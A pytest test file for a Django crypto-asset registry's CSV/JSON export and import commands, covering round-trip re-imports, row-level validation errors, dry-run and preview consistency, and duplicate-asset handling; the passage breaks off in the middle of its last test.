"""`manage.py export` and `manage.py import_csv`: every entity, in the API's own terms."""

import csv
import json
from io import StringIO

import pytest
from django.apps import apps
from django.core.management import CommandError, call_command
from django.db import transaction
from django.db.models import Max

from assets.models import Asset, AssetDeployment, AssetIdentifier
from assets.services import asset_create, asset_identifier_create, asset_soft_delete
from chains.models import Chain
from markets.models import VenueSymbol
from markets.services import venue_symbol_create, venue_symbol_delist
from quality.models import AssetQualityFlag
from quality.services import flag_raise, flag_resolve
from registry.exchange.entities import ENTITIES
from registry.models import OutboxEvent
from tests.api.conftest import walk_pages

pytestmark = pytest.mark.django_db

ADDRESS_1, ADDRESS_2 = "0x" + "cd" * 20, "0x" + "ef" * 20
REGISTRY_APPS = ("chains", "assets", "venues", "quality")
# What an import into another registry cannot reproduce: when rows were written, the
# integer ids the database hands out, and who raised and resolved a flag when (an
# import raises and resolves it anew, as its own actor, as the API would).
NOT_CARRIED = {
    "*": {"created_at", "updated_at", "version", "added_at"},
    "identifiers": {"id"},
    "venue-assets": {"id"},
    "venue-symbols": {"id"},
    "quality-flags": {"raised_at", "raised_by", "resolved_at", "resolved_by"},
}


def add_history() -> None:
    """What the demo lacks: a delisted ticker mapped anew, a resolved flag, a deleted asset."""
    kraken_eth = VenueSymbol.objects.get(venue_id="kraken", venue_symbol="XETHZUSD")
    venue_symbol_delist(venue_symbol=kraken_eth)
    venue_symbol_create(
        venue=kraken_eth.venue,
        symbol="XETHZUSD",
        market_type="SPOT",
        asset=kraken_eth.asset,
        metadata={"quote_currency": "USD", "relisted": True},
    )
    reth = Asset.objects.get(symbol="rETH")
    flag = flag_raise(
        asset=reth, flag_type="LOW_LIQUIDITY", severity=2, reason="Thin books.", actor="user:ann"
    )
    flag_resolve(flag=flag, actor="user:ann", notes="Liquidity is back.")
    gone = asset_create(symbol="GONE", name="Gone Token", asset_type="ERC20")
    asset_identifier_create(asset=gone, source="COINGECKO", external_id="gone-token")
    asset_soft_delete(asset=gone)


@pytest.fixture
def registry_data(demo):
    add_history()


def export_text(entity: str, fmt: str = "csv") -> str:
    out = StringIO()
    call_command("export", entity, "--format", fmt, stdout=out)
    return out.getvalue()


def import_csv(entity: str, path, *options: str, nothing_imported: bool = False) -> dict:
    """The run's JSON report. ``nothing_imported``: every row is rejected, and the command
    says so with a non-zero exit (a CommandError), after its report."""
    out = StringIO()
    if nothing_imported:
        with pytest.raises(
            CommandError, match=r"^Nothing (would be )?imported: all \d+ items were rejected"
        ):
            call_command("import_csv", entity, str(path), "--json", *options, stdout=out)
    else:
        call_command("import_csv", entity, str(path), "--json", *options, stdout=out)
    return json.loads(out.getvalue())


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(StringIO(text)))


def write_csv(path, rows: list[dict]):
    with open(path, "w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    return path


def registry_state() -> dict[str, tuple]:
    """Row count, highest version and last write of every registry table (field sources
    included), and the outbox."""
    state: dict[str, tuple] = {"events": (OutboxEvent.objects.count(),)}
    for label in REGISTRY_APPS:
        for model in apps.get_app_config(label).get_models():
            manager = getattr(model, "all_objects", model._base_manager)
            fields = {f.name for f in model._meta.concrete_fields}
            aggregates = [
                Max(name) for name in ("version", "updated_at", "set_at") if name in fields
            ]
            state[model._meta.label] = (manager.count(), *manager.aggregate(*aggregates).values())
    return state


def as_cell(value) -> str:
    """The CSV form the export promises for a value of the API's JSON."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dict | list):
        return json.dumps(value, separators=(",", ":"), ensure_ascii=False)
    return str(value)


@pytest.mark.parametrize("entity", list(ENTITIES))
def test_importing_an_export_changes_nothing(entity, registry_data, tmp_path):
    """Every row of an export re-imports as unchanged: no row, version or event is written."""
    text = export_text(entity)
    rows = csv_rows(text)
    assert rows, f"the demo has no {entity}"
    path = tmp_path / f"{entity}.csv"
    path.write_text(text, encoding="utf-8")
    before = registry_state()

    report = import_csv(entity, path)

    assert report["unchanged"] == {entity: len(rows)}
    assert (report["created"], report["updated"], report["rejected"]) == ({}, {}, [])
    assert registry_state() == before


@pytest.mark.parametrize("entity", list(ENTITIES))
def test_json_and_jsonl_exports_carry_the_rows_of_the_csv(entity, registry_data):
    """The three formats hold the same rows; the CSV has the API field names as its header,
    nested values as compact JSON and None as an empty cell."""
    as_json = json.loads(export_text(entity, "json"))
    as_jsonl = [json.loads(line) for line in export_text(entity, "jsonl").splitlines()]
    text = export_text(entity)

    assert as_json == as_jsonl
    assert text.splitlines()[0].split(",") == list(as_json[0])
    assert csv_rows(text) == [{name: as_cell(v) for name, v in row.items()} for row in as_json]


def test_an_export_holds_what_the_api_lists(registry_data, viewer):
    """Rows are the API serializer's output, for exactly the objects the API lists (not a
    soft-deleted asset, nor what hangs off one)."""
    for entity in ENTITIES:
        exported = json.loads(export_text(entity, "json"))
        if entity == "group-members":
            listed = []
            for group in walk_pages(viewer, "/api/v1/groups/")[0]:
                members = walk_pages(viewer, f"/api/v1/groups/{group['group_id']}/members/")[0]
                listed += [{"group": group["group_id"], **member} for member in members]
        else:
            listed = walk_pages(viewer, f"/api/v1/{entity}/")[0]
        key = lambda row: json.dumps(row, sort_keys=True)  # noqa: E731
        assert sorted(exported, key=key) == sorted(listed, key=key), entity
    symbols = [row["symbol"] for row in json.loads(export_text("assets", "json"))]
    assert "GONE" not in symbols and "USDC" in symbols
    identifiers = json.loads(export_text("identifiers", "json"))
    assert "gone-token" not in {row["external_id"] for row in identifiers}


def comparable(entity: str, rows: list[dict]) -> list[str]:
    """The rows without what another registry cannot carry over, in a stable order."""
    dropped = NOT_CARRIED["*"] | NOT_CARRIED.get(entity, set())

    def strip(value):
        if isinstance(value, dict):
            return {k: strip(v) for k, v in value.items() if k not in dropped}
        if isinstance(value, list):
            return sorted((strip(item) for item in value), key=json.dumps)
        return value

    return sorted(json.dumps(strip(row), sort_keys=True) for row in rows)


def test_entities_are_listed_in_the_order_an_empty_registry_imports_them():
    """The apps register their entities; each is listed after those its rows refer to (a
    chain after its native asset), otherwise in app order: the import_csv choices, its
    help and the table's order below."""
    assert list(ENTITIES) == [
        "assets",
        "chains",
        "deployments",
        "identifiers",
        "relationships",
        "groups",
        "group-members",
        "venues",
        "venue-assets",
        "quality-flags",
        "venue-symbols",
    ]


def test_an_export_recreates_the_same_registry_in_an_empty_one(db, tmp_path):
    """Exports of the demo, imported entity by entity in the table's order into an empty
    registry, recreate the same rows with the same ids.

    The demo is loaded and exported inside a savepoint that is then rolled back, so the
    import runs against a registry that was never loaded (this test's own, empty,
    transaction): no second database, flush or test ordering is needed."""
    with transaction.atomic():
        call_command("load_demo", stdout=StringIO())
        add_history()
        before = {entity: json.loads(export_text(entity, "json")) for entity in ENTITIES}
        for entity in ENTITIES:
            path = tmp_path / f"{entity}.csv"
            call_command("export", entity, "--output", str(path), stderr=StringIO())
        transaction.set_rollback(True)
    assert not Asset.all_objects.exists() and not Chain.objects.exists()

    for entity in ENTITIES:
        report = import_csv(entity, tmp_path / f"{entity}.csv")
        assert report["rejected"] == [], entity
        assert report["created"] == {entity: len(before[entity])}, entity

    for entity in ENTITIES:
        after = json.loads(export_text(entity, "json"))
        assert comparable(entity, after) == comparable(entity, before[entity]), entity
    resolved = AssetQualityFlag.objects.get(flag_type="LOW_LIQUIDITY")
    assert resolved.resolution_notes == "Liquidity is back."
    assert resolved.resolved_by == resolved.raised_by == "service:importer"
    tickers = VenueSymbol.objects.filter(venue_id="kraken", venue_symbol="XETHZUSD")
    assert sorted(t.delisted_at is None for t in tickers) == [False, True]
    # Imported a second time, the files find what the first import made.
    for entity in ENTITIES:
        report = import_csv(entity, tmp_path / f"{entity}.csv")
        assert report["unchanged"] == {entity: len(before[entity])}, entity


def test_a_file_with_an_unknown_column_imports_nothing_and_names_it(demo, tmp_path):
    rows = csv_rows(export_text("chains"))
    new = {**rows[0], "chain_id": "zora", "name": "Zora", "network_id": "7777777"}
    path = write_csv(tmp_path / "chains.csv", [{**row, "colour": "blue"} for row in [*rows, new]])
    before = registry_state()

    with pytest.raises(CommandError, match=r"Nothing imported.*unknown columns colour"):
        import_csv("chains", path)

    assert registry_state() == before
    assert not Chain.objects.filter(chain_id="zora").exists()


def test_a_file_without_the_natural_key_or_not_csv_imports_nothing(demo, tmp_path):
    """A CSV that lacks a natural key column, and a JSON export given as CSV, are refused."""
    rows = csv_rows(export_text("deployments"))
    no_address = write_csv(
        tmp_path / "deployments.csv", [{k: v for k, v in r.items() if k != "address"} for r in rows]
    )
    not_csv = tmp_path / "deployments.json"
    not_csv.write_text(export_text("deployments", "json"), encoding="utf-8")
    before = registry_state()

    with pytest.raises(CommandError, match="missing columns address"):
        import_csv("deployments", no_address)
    with pytest.raises(CommandError, match="not a CSV of deployments: unknown columns"):
        import_csv("deployments", not_csv)

    assert registry_state() == before


def test_bad_rows_are_rejected_with_line_and_field_and_the_rest_imports(demo, tmp_path):
    """Line numbers count physical lines (a quoted cell may span several; header = 1)."""
    counterfeit = Asset.objects.get(name="Counterfeit USD Coin (demo)")
    address = "0x" + "ab" * 20
    path = tmp_path / "deployments.csv"
    path.write_text(
        "asset,chain,address,decimals,metadata\n"
        f'{counterfeit.pk},ethereum,{address},6,"{{\n""note"": ""impostor""}}"\n'
        f"{counterfeit.pk},base,{address},300,{{}}\n"
        f"{counterfeit.pk},no-such-chain,{address},6,{{}}\n",
        encoding="utf-8",
    )

    report = import_csv("deployments", path)

    assert report["created"] == {"deployments": 1}
    rejected = {row["item"]: row["reason"] for row in report["rejected"]}
    assert set(rejected) == {"line 4", "line 5"}
    assert rejected["line 4"].startswith("decimals: ")
    assert "255" in rejected["line 4"]
    assert rejected["line 5"].startswith("chain: ") and "no-such-chain" in rejected["line 5"]
    created = AssetDeployment.objects.get(asset=counterfeit)
    assert (created.chain_id, created.decimals, created.metadata) == (
        "ethereum",
        6,
        {"note": "impostor"},
    )


def test_an_evm_address_in_another_letter_case_finds_its_deployment(demo, tmp_path):
    """(chain, address) finds the deployment in any letter case on an EVM chain, as the
    model's uniqueness does; a second row with the same key is refused, not applied twice."""
    rows = csv_rows(export_text("deployments"))
    row = next(r for r in rows if r["address"] == "0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48")
    lower = {**row, "address": row["address"].lower(), "decimals": "7"}
    path = write_csv(tmp_path / "deployments.csv", [lower, {**lower, "decimals": "8"}])
    count = AssetDeployment.objects.count()

    report = import_csv("deployments", path)

    assert report["updated"] == {"deployments": 1} and report["created"] == {}
    assert report["rejected"] == [
        {"item": "line 3", "reason": "chain, address: the same as line 2."}
    ]
    deployment = AssetDeployment.objects.get(pk=row["deployment_id"])
    assert (deployment.decimals, deployment.address) == (7, row["address"])
    assert AssetDeployment.objects.count() == count


def test_strict_imports_nothing_when_a_row_is_rejected(demo, tmp_path):
    """One good row, one bad: --strict rejects the file and writes nothing."""
    counterfeit = Asset.objects.get(name="Counterfeit USD Coin (demo)")
    path = write_csv(
        tmp_path / "deployments.csv",
        [
            {"asset": counterfeit.pk, "chain": "ethereum", "address": ADDRESS_1, "decimals": 6},
            {"asset": counterfeit.pk, "chain": "nowhere", "address": ADDRESS_2, "decimals": 6},
        ],
    )
    before = registry_state()

    with pytest.raises(CommandError, match="1 items rejected; nothing imported"):
        call_command("import_csv", "deployments", str(path), "--strict", stdout=StringIO())

    assert registry_state() == before


def test_dry_run_reports_what_would_change_and_writes_nothing(demo, tmp_path):
    rows = csv_rows(export_text("chains"))
    base = next(row for row in rows if row["chain_id"] == "base")
    base["name"] = "Base Mainnet"
    # Its CAIP-2 id too: a copied row's would be base's, which a chain import refuses.
    new = {
        **base,
        "chain_id": "zora",
        "name": "Zora",
        "network_id": "7777777",
        "caip2": "eip155:7777777",
    }
    path = write_csv(tmp_path / "chains.csv", [*rows, new])
    before = registry_state()

    report = import_csv("chains", path, "--dry-run")

    assert report["dry_run"] is True
    assert report["created"] == {"chains": 1}
    assert report["updated"] == {"chains": 1}
    assert report["unchanged"] == {"chains": len(rows) - 1}
    assert registry_state() == before

    report = import_csv("chains", path)

    assert (report["created"], report["updated"]) == ({"chains": 1}, {"chains": 1})
    assert Chain.objects.get(chain_id="base").name == "Base Mainnet"
    assert Chain.objects.get(chain_id="zora").network_id == 7777777
    events = OutboxEvent.objects.order_by("-id").values_list("event_type", flat=True)[:2]
    assert sorted(events) == ["chain_registered", "chain_updated"]


def test_a_name_a_steward_set_is_kept_unless_overwrite(demo, steward, tmp_path):
    """An import changes what imports set; a field a person set through the API stays,
    counted as kept, until --overwrite."""
    first = write_csv(
        tmp_path / "list-v1.csv",
        [{"symbol": "NEW", "name": "New Token", "asset_type": "ERC20", "category": "defi"}],
    )
    assert import_csv("assets", first)["created"] == {"assets": 1}
    asset = Asset.objects.get(symbol="NEW")
    response = steward.patch(
        f"/api/v1/assets/{asset.pk}/", {"name": "New Token (fixed)"}, format="json"
    )
    assert response.status_code == 200, response.content
    second = write_csv(
        tmp_path / "list-v2.csv",
        [{"asset_id": asset.pk, "name": "New Token v2", "category": "dex"}],
    )

    report = import_csv("assets", second)

    assert report["updated"] == {"assets": 1}
    assert report["kept_manual_fields"] == {"name": 1}
    asset.refresh_from_db()
    assert (asset.name, asset.category) == ("New Token (fixed)", "dex")

    report = import_csv("assets", second, "--overwrite")

    assert report["updated"] == {"assets": 1} and report["kept_manual_fields"] == {}
    asset.refresh_from_db()
    assert asset.name == "New Token v2"


def test_a_flag_resolved_in_the_file_is_resolved_and_a_changed_flag_is_refused(demo, tmp_path):
    rows = csv_rows(export_text("quality-flags"))
    (scam,) = rows
    resolved = {**scam, "resolved_at": "2030-01-01T00:00:00Z", "resolution_notes": "Delisted."}
    path = write_csv(tmp_path / "flags.csv", [resolved])

    report = import_csv("quality-flags", path)

    assert report["updated"] == {"quality-flags": 1}
    flag = AssetQualityFlag.objects.get(pk=scam["flag_id"])
    assert (flag.resolution_notes, flag.resolved_by) == ("Delisted.", "service:importer")
    assert flag.resolved_at is not None

    lowered = write_csv(tmp_path / "flags-2.csv", [{**resolved, "severity": "2"}])
    report = import_csv("quality-flags", lowered, nothing_imported=True)

    assert report["updated"] == {}
    (rejection,) = report["rejected"]
    assert rejection["item"] == "line 2" and rejection["reason"].startswith("severity: ")


@pytest.mark.parametrize("dry_run", [True, False])
def test_a_critical_flag_raised_and_resolved_by_one_import_is_rejected_when_planned(
    demo, tmp_path, dry_run
):
    """Four eyes: the import would raise it, so it may not resolve it too; the plan (and so
    a dry run or the admin's preview) already says so."""
    (scam,) = csv_rows(export_text("quality-flags"))
    new = {
        **scam,
        "flag_id": "",
        "flag_type": "EXPLOITED",
        "resolved_at": "2030-01-01T00:00:00Z",
        "resolution_notes": "Patched.",
    }
    path = write_csv(tmp_path / "flags.csv", [new])

    report = import_csv(
        "quality-flags", path, *(["--dry-run"] if dry_run else []), nothing_imported=True
    )

    assert report["created"] == {}
    (rejection,) = report["rejected"]
    assert rejection["item"] == "line 2"
    assert "A CRITICAL flag needs a second person" in rejection["reason"]
    assert AssetQualityFlag.objects.count() == 1


def test_a_ticker_delisted_in_the_file_is_delisted_and_stays_delisted(demo, tmp_path):
    """A row delisted in the file delists the current mapping it names; the earlier export,
    where it was current, then leaves it delisted (with a warning), not mapped anew."""
    exported = tmp_path / "symbols-before.csv"
    exported.write_text(export_text("venue-symbols"), encoding="utf-8")
    row = next(r for r in csv_rows(exported.read_text()) if r["symbol"] == "BTC-USD")
    row_delisted = {**row, "delisted_at": "2031-05-01T12:00:00Z", "is_active": "false"}
    delisted = write_csv(tmp_path / "symbols.csv", [row_delisted])

    report = import_csv("venue-symbols", delisted)

    assert report["updated"] == {"venue-symbols": 1}
    mapping = VenueSymbol.objects.get(pk=row["id"])
    assert mapping.delisted_at.isoformat() == "2031-05-01T12:00:00+00:00"
    assert not mapping.is_active
    assert import_csv("venue-symbols", delisted)["unchanged"] == {"venue-symbols": 1}

    report = import_csv("venue-symbols", exported)

    assert report["created"] == {} and report["updated"] == {}
    (warning,) = report["warnings"]
    assert f"mapping {row['id']} was delisted since" in warning
    assert (
        not VenueSymbol.objects.current()
        .filter(venue_id="coinbase", venue_symbol="BTC-USD")
        .exists()
    )


def test_an_identifier_cannot_be_changed_as_the_api_cannot(demo, tmp_path):
    rows = csv_rows(export_text("identifiers"))
    row = next(r for r in rows if r["external_id"] == "weth")
    path = write_csv(tmp_path / "identifiers.csv", [{**row, "is_primary": "false"}])

    report = import_csv("identifiers", path, nothing_imported=True)

    (rejection,) = report["rejected"]
    assert rejection["item"] == "line 2"
    assert rejection["reason"].startswith("is_primary: ")
    assert AssetIdentifier.objects.get(external_id="weth").is_primary


def test_a_spreadsheet_saved_csv_reimports_unchanged(demo, tmp_path):
    """UTF-8 with a byte order mark and CRLF line ends (what spreadsheets save) reads the same."""
    text = export_text("assets")
    path = tmp_path / "assets.csv"
    path.write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode("utf-8"))

    report = import_csv("assets", path)

    assert report["unchanged"] == {"assets": len(csv_rows(text))}
    assert report["rejected"] == []


# ---- previews and dry runs tell the truth ------------------------------------------------

NUL_METADATA = '{"note":"\\u0000"}'  # JSON the serializer accepts; the model refuses NUL


def by_id(external_id: str) -> str:
    """The id of the demo asset CoinGecko knows as ``external_id``."""
    return str(Asset.objects.with_identifier("COINGECKO", external_id).get().pk)


def blank(row: dict) -> dict:
    return {name: "" for name in row}


def mixed_rows(entity: str) -> list[dict]:
    """Rows of ``entity``: unchanged, updated and new ones, and rows only the write refuses
    (model validation, constraints against the registry and against an earlier row of the
    file, references to a deleted asset, four eyes). The first row is unchanged."""
    rows = csv_rows(export_text(entity))
    first, template = rows[0], rows[-1]
    usdc, eth, weth, gone = by_id("usd-coin"), by_id("ethereum"), by_id("weth"), None
    gone = str(Asset.all_objects.get(symbol="GONE").pk)
    if entity == "assets":
        new = {**blank(first), "symbol": "NEWA", "name": "New A", "asset_type": "ERC20"}
        (usdc_row,) = [row for row in rows if row["asset_id"] == usdc]
        return [
            first,
            {**usdc_row, "description": "Edited."},
            new,
            {**new, "symbol": "BAD\u200bX", "name": "Bad X"},  # an invisible character
            {**rows[1], "metadata": NUL_METADATA},
        ]
    if entity == "chains":
        new = {**template, "chain_id": "zora", "name": "Zora", "network_id": "7777777"}
        return [
            first,
            {**rows[1], "name": "Renamed"},
            new,
            {**new, "chain_id": "zora-again", "name": "Zora again"},  # the same network id
            {**new, "chain_id": "nonet", "network_id": "", "chain_type": "EVM"},
        ]
    if entity == "deployments":
        reth = by_id("rocket-pool-eth")
        (reth_row,) = [row for row in rows if row["asset"] == reth and row["chain"] == "ethereum"]
        taken = {row["chain"] for row in rows if row["asset"] == reth}
        chains = sorted(set(Chain.objects.filter(chain_type="EVM").values_list("pk", flat=True)))
        free, other = [chain for chain in chains if chain not in taken][:2]
        new = {
            **reth_row,
            "deployment_id": "",
            "chain": free,
            "address": ADDRESS_1,
            "is_canonical": "false",
            "deployment_tx": "",
            "deployer_address": "",
        }
        return [
            next(row for row in rows if row["asset"] != reth),
            {**reth_row, "metadata": '{"note":"edited"}'},
            new,
            {**new, "address": ADDRESS_2},  # a second deployment of rETH on that chain
            {**new, "chain": other, "address": "0xNOTANADDRESS"},
            {**new, "asset": gone, "chain": other, "address": ADDRESS_2},
        ]
    if entity == "identifiers":
        new = {
            **template,
            "asset": usdc,
            "source": "COINMARKETCAP",
            "external_id": "3408",
            "is_primary": "true",
        }
        return [
            first,
            new,
            {**new, "external_id": "3408-b"},  # a second primary CoinMarketCap id
            {**new, "source": "COINGECKO", "external_id": "usdc-2"},  # one more primary
            {**new, "asset": gone, "external_id": "gone-cmc"},
        ]
    if entity == "relationships":
        (weth_row,) = [row for row in rows if row["child_asset"] == weth]
        new = {
            **weth_row,
            "relationship_id": "",
            "child_asset": usdc,
            "relationship_type": "SYNTHETIC_OF",
        }
        return [
            first,
            {**weth_row, "description": "Edited."},
            new,
            {**new, "parent_asset": weth, "child_asset": eth},  # closes a cycle
            {**new, "child_asset": eth},  # related to itself
        ]
    if entity == "groups":
        new = {**template, "group_id": "btc", "canonical_symbol": "BTC", "description": ""}
        return [
            {**first, "description": "Edited."},
            new,
            {**new, "group_id": "bitcoin", "canonical_symbol": "btc"},  # the same, in lower case
            {**new, "group_id": "usd", "canonical_symbol": "U\u200bSD"},
        ]
    if entity == "group-members":
        new = {**template, "asset": by_id("wrapped-bitcoin"), "is_canonical": "false"}
        return [
            first,
            {**rows[1], "weight": "0.5"},
            new,
            {**new, "asset": usdc, "is_canonical": "true"},  # a second canonical member
            {**new, "asset": by_id("tether"), "weight": "-1"},
            {**new, "asset": gone},
        ]
    if entity == "venues":
        new = {**template, "venue_id": "newex", "name": "New Exchange"}
        return [
            first,
            {**rows[1], "name": "Renamed"},
            new,
            {
                **new,
                "venue_id": "dex",
                "venue_type": "DEX",
                "chain": "ethereum",
                "protocol_address": "0xNOTANADDRESS",
            },
            {**rows[2], "metadata": NUL_METADATA},
        ]
    if entity == "venue-assets":
        new = {**template, "venue_asset_symbol": "NEWCODE", "asset": usdc}
        return [
            first,
            {**rows[1], "deposit_enabled": "false"},
            new,
            {**new, "venue_asset_symbol": "OTHER", "metadata": NUL_METADATA},
            {**new, "venue_asset_symbol": "GONE", "asset": gone},
        ]
    if entity == "venue-symbols":
        current = [row for row in rows if not row["delisted_at"]]
        new = {**current[0], "id": "", "symbol": "NEW-USD", "asset": usdc, "quote_asset": eth}
        return [
            current[0],
            {**current[1], "metadata": '{"note":"edited"}'},
            new,
            {**new, "symbol": "SELF-SELF", "quote_asset": usdc},  # quoted in itself
            {**new, "symbol": "GONE-USD", "asset": gone},
        ]
    assert entity == "quality-flags"
    active = [row for row in rows if not row["resolved_at"]]
    new = {
        **active[0],
        "flag_id": "",
        "asset": usdc,
        "flag_type": "LOW_LIQUIDITY",
        "severity": "2",
        "source": "manual",
    }
    return [
        next(row for row in rows if row["resolved_at"]),
        {**active[0], "resolved_at": "2030-01-01T00:00:00Z", "resolution_notes": "Gone."},
        new,
        {**new, "reason": "Again."},  # a second active flag of the type and source
        {
            **new,
            "flag_type": "EXPLOITED",
            "severity": "5",
            "resolved_at": "2030-01-01T00:00:00Z",
            "resolution_notes": "Patched.",
        },  # raised and resolved by one actor
        {**new, "asset": gone},
    ]


def rehearsed_and_written(entity: str, path, actor: str) -> tuple[dict, dict]:
    """Each line's verdict in a dry run and in the real run (rolled back) of ``path``, by
    ``actor``: what the engine behind the command and the admin decides."""
    from registry.actors import acting_as
    from registry.exchange.run import CsvImport
    from registry.importing import ImportReport

    verdicts = []
    for dry_run in (True, False):
        run = CsvImport(
            ENTITIES[entity],
            ImportReport(source=entity, dry_run=dry_run),
            source=f"import:csv:{path.name}",
            overwrite=True,
            dry_run=dry_run,
        )
        with transaction.atomic(), acting_as(actor, source=f"import:csv:{path.name}"):
            run.run(path.read_bytes(), path.name)
            transaction.set_rollback(True)
        rejected = {int(r.item.split()[-1]): r.reason for r in run.report.rejected}
        verdicts.append({line: (v, rejected.get(line)) for line, v in run.verdicts.items()})
    return verdicts[0], verdicts[1]


@pytest.mark.parametrize("entity", list(ENTITIES))
def test_a_dry_run_and_the_preview_agree_row_by_row_with_the_import(
    entity, registry_data, admin_client, tmp_path, media_root
):
    """Good rows, and bad rows that only the write refuses: the command's dry run, the
    admin's preview and the engine's dry run say, line by line, what the import does."""
    from django.urls import reverse

    from registry.exchange.entities import CREATED, REJECTED, UPDATED
    from tests.registry.test_admin_exchange import OVERWRITE, preview

    path = write_csv(tmp_path / f"{entity}.csv", mixed_rows(entity))
    before = registry_state()

    rehearsed, written = rehearsed_and_written(entity, path, "user:admin")
    opts = ENTITIES[entity].model._meta
    url = reverse(f"admin:{opts.app_label}_{opts.model_name}_import")
    shown = preview(admin_client, url, path.read_bytes(), path.name, **OVERWRITE).context["preview"]
    dry = import_csv(entity, path, "--dry-run", "--overwrite")
    assert registry_state() == before

    real = import_csv(entity, path, "--overwrite")

    assert rehearsed == written
    verdicts = {v for v, _ in written.values()}
    assert REJECTED in verdicts and verdicts & {CREATED, UPDATED}, written
    actions = {"create": CREATED, "update": UPDATED}
    assert {row.line: actions[row.action] for row in shown.rows} == {
        line: v for line, (v, _) in written.items() if v in (CREATED, UPDATED)
    }
    assert [(r.item, r.reason) for r in shown.rejected] == [
        (f"line {line}", reason) for line, (v, reason) in sorted(written.items()) if v == REJECTED
    ]
    ignored = {"dry_run", "seconds", "items_per_second"}
    assert {k: v for k, v in dry.items() if k not in ignored} == {
        k: v for k, v in real.items() if k not in ignored
    }


# ---- a row without asset_id finds the asset an earlier import made ------------------------


def new_assets_csv(path, *rows: dict):
    """A steward's file of new assets: no asset_id column."""
    return write_csv(path, [{"asset_type": "ERC20", "category": "defi", **row} for row in rows])


def test_importing_a_file_of_new_assets_twice_changes_nothing_the_second_time(demo, tmp_path):
    """Rows without asset_id are found by symbol and name (in any letter case), so the
    second import finds what the first created: IMPORT.md's idempotence."""
    path = new_assets_csv(
        tmp_path / "new.csv",
        {"symbol": "NEWA", "name": "New A", "description": ""},
        {"symbol": "NEWB", "name": "New B", "description": "Second."},
    )
    assert import_csv("assets", path)["created"] == {"assets": 2}
    before = registry_state()

    report = import_csv("assets", path)

    assert report["unchanged"] == {"assets": 2}
    assert (report["created"], report["updated"], report["rejected"]) == ({}, {}, [])
    assert registry_state() == before
    assert Asset.objects.filter(symbol="NEWA").count() == 1

    # In another letter case the row still finds the asset, and writes its spelling.
    edited = new_assets_csv(tmp_path / "edited.csv", {"symbol": "NewA", "name": "NEW A"})
    report = import_csv("assets", edited)
    assert (report["created"], report["updated"]) == ({}, {"assets": 1})
    assert Asset.objects.get(symbol="NewA").name == "NEW A"


def test_an_export_without_its_ids_reimports_unchanged(registry_data, tmp_path):
    """Symbol, name and the deployments an export lists find each exported asset."""
    rows = csv_rows(export_text("assets"))
    path = write_csv(tmp_path / "assets.csv", [{**row, "asset_id": ""} for row in rows])
    before = registry_state()

    report = import_csv("assets", path)

    assert report["unchanged"] == {"assets": len(rows)}
    assert report["rejected"] == [] and report["created"] == {}
    assert registry_state() == before


def test_a_row_whose_symbol_and_name_an_asset_with_other_deployments_has_needs_a_choice(
    demo, tmp_path
):
    """Refused, naming the asset, in a dry run as in the import; --allow-duplicates creates
    a new asset, and importing the file again then finds it."""
    usdc = Asset.objects.get(name="USD Coin")
    elsewhere = json.dumps([{"chain": "base", "address": ADDRESS_1}])
    path = new_assets_csv(
        tmp_path / "usdc.csv", {"symbol": "USDC", "name": "USD Coin", "deployments": elsewhere}
    )
    before = registry_state()

    for options in (["--dry-run"], []):
        report = import_csv("assets", path, *options, nothing_imported=True)
        (rejection,) = report["rejected"]
        assert rejection["item"] == "line 2"
        assert str(usdc.pk) in rejection["reason"]
        assert "allow duplicates" in rejection["reason"]
    assert registry_state() == before

    report = import_csv("assets", path, "--allow-duplicates")

    assert report["created"] == {"assets": 1}
    assert str(usdc.pk) in report["warnings"][0]
    assert Asset.objects.filter(name="USD Coin").count() == 2
    before = registry_state()
    assert import_csv("assets", path, "--allow-duplicates")["unchanged"] == {"assets": 1}
    assert registry_state() == before


def test_an_ambiguous_row_is_refused_and_its_asset_id_settles_it(demo, tmp_path):
    """Two live assets with the symbol and name: the row names neither, so it is refused,
    duplicates allowed or not; with an asset_id it updates that one."""
    first = asset_create(symbol="TWIN", name="Twin", asset_type="ERC20")
    second = asset_create(symbol="TWIN", name="Twin", asset_type="ERC20")
    path = new_assets_csv(tmp_path / "twin.csv", {"symbol": "TWIN", "name": "Twin"})

    for options in ([], ["--allow-duplicates"]):
        report = import_csv("assets", path, "--overwrite", *options, nothing_imported=True)
        (rejection,) = report["rejected"]
        assert str(first.pk) in rejection["reason"] and str(second.pk) in rejection["reason"]
    assert Asset.objects.filter(symbol="TWIN").count() == 2

    named = new_assets_csv(
        tmp_path / "named.csv", {"asset_id": second.pk, "symbol": "TWIN", "name": "Twin"}
    )
    report = import_csv("assets", named, "--overwrite")
    assert report["updated"] == {"assets": 1}  # its category, from the file
    second.refresh_from_db()
    assert second.category == "defi"


def test_two_rows_without_asset_id_for_one_asset_are_refused_but_the_first(demo, tmp_path):
    """A second row with the same symbol and name would be the same asset again (or, as a
    second asset, one the next import could not tell apart)."""
    path = new_assets_csv(
        tmp_path / "twice.csv",
        {"symbol": "DUO", "name": "Duo"},
        {"symbol": "duo", "name": "DUO", "category": "other"},
    )

    report = import_csv("assets", path)

    assert report["created"] == {"assets": 1}
    (rejection,) = report["rejected"]
    assert rejection["item"] == "line 3" and "the same as line 2" in rejection["reason"]
    assert import_csv("assets", path)["unchanged"] == {"assets": 1}


def test_allow_duplicates_is_refused_for_an_entity_found_by_its_key_only(demo, tmp_path):
    path = tmp_path / "chains.csv"
    path.write_text(export_text("chains"), encoding="utf-8")

    with pytest.raises(CommandError, match="--allow-duplicates: chains rows are found by"):
        import_csv("chains", path, "--allow-duplicates")


# ---- what the command says when it imports nothing ---------------------------------------


def test_a_file_whose_every_row_is_rejected_exits_non_zero(demo, tmp_path):
    """Nothing imported is a failure, in a dry run as in the import; one good row is not."""
    counterfeit = Asset.objects.get(name="Counterfeit USD Coin (demo)")
    bad = {"asset": counterfeit.pk, "chain": "ethereum", "decimals": 6}
    path = write_csv(tmp_path / "bad.csv", [{**bad, "address": "0xNOTANADDRESS"}])

    for options in (["--dry-run"], []):
        report = import_csv("deployments", path, *options, nothing_imported=True)
        assert report["rejected"][0]["reason"].startswith("address: Not an EVM address")

    good = {**bad, "address": ADDRESS_1}
    mixed = write_csv(tmp_path / "mixed.csv", [{**bad, "address": "0xNOTANADDRESS"}, good])
